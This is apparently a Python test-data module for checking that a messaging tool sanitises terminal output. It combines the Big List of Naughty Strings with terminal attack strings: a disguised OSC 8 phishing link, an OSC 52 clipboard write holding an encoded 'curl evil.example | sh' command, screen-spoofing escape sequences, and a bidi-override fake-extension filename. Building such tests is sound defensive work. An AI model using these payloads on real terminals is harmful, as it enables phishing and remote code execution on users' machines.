"""Hostile strings for terminal output tests: the Big List of Naughty Strings plus
terminal attacks (tests/data/blns/README.md says where the list comes from)."""

from __future__ import annotations

import re
from pathlib import Path

from tidings.protocol.handles import TextFieldError, clean_text
from tidings.protocol.safe_text import safe_text

BLNS = Path(__file__).resolve().parents[1] / "data" / "blns" / "blns.txt"
BLNS_GIT_BLOB = "7c27bbd7eb5cd52330524f033dff1c0dc8ba0066"
"""The file's git blob id at the upstream commit named in tests/data/blns/README.md."""

OSC8 = "\x1b]8;;https://evil.example/login\x1b\\your bank\x1b]8;;\x1b\\"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
CSI = "\x1b[2J\x1b[1;1H\x1b[31madmin: all is fine\x1b[0m"
C1_CSI = "\x9b31mred\x9b0m \x9d8;;https://evil.example/\x9c8-bit link"
BIDI = "invoice_\u202egpj.exe \u2066isolated\u2069 \u202b\u202aembedded\u202c\u202d"
MARKUP = ("[link=https://evil.example/]click for a prize[/link] [bold]loud[/bold] [/bold] "
          "[/] [red on white]x[/] :warning: \\[escaped]")
TERMINAL = (OSC8, OSC52, CSI, C1_CSI, BIDI, MARKUP)
"""What must never reach a terminal as it is, and what each one must show instead."""
SHOWN = ("␛]8;;https://evil.example/login␛\\your bank", "␛]52;c;", "␛[2J␛[1;1H",
         "<U+009B>31mred", "invoice_<U+202E>gpj.exe", "<U+2066>isolated<U+2069>",
         "[link=https://evil.example/]click for a prize[/link]", "[bold]loud[/bold] [/bold]")

DANGEROUS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e"
                       "\u2060-\u2069\ufeff\U000e0000-\U000e007f]")
"""ESC and other C0 (but newline, tab), C1, bidi marks, embeddings, overrides, isolates,
invisible operators, BOM and tag characters: none may appear in terminal output."""


def blns() -> list[str]:
    """Every string of the list: lines that are not comments or blank."""
    return [line for line in BLNS.read_text(encoding="utf-8").split("\n")
            if line and not line.startswith("#")]


def everything() -> list[str]:
    return [*TERMINAL, *blns()]


def accepted_as_public_text(s: str) -> bool:
    """Whether the server takes it in a post (it refuses C0/C1 controls there)."""
    try:
        clean_text(f"x{s}x", 10**6, "text")  # inside a batch: not at an edge
    except TextFieldError:
        return False
    return True


def batches(strings: list[str], size: int, sep: str = "\n") -> list[str]:
    """The strings joined by ``sep`` into texts of at most ``size`` characters."""
    out: list[str] = []
    for s in strings:
        if out and len(out[-1]) + len(sep) + len(s) <= size:
            out[-1] += sep + s
        else:
            out.append(s)
    return out


def shown_form(s: str) -> list[str]:
    """What the output must contain for ``s``: its safe form, in the pieces a terminal
    renderer may lay out apart (tabs are expanded to spaces)."""
    return [piece.strip() for piece in safe_text(s).split("\t") if piece.strip()]
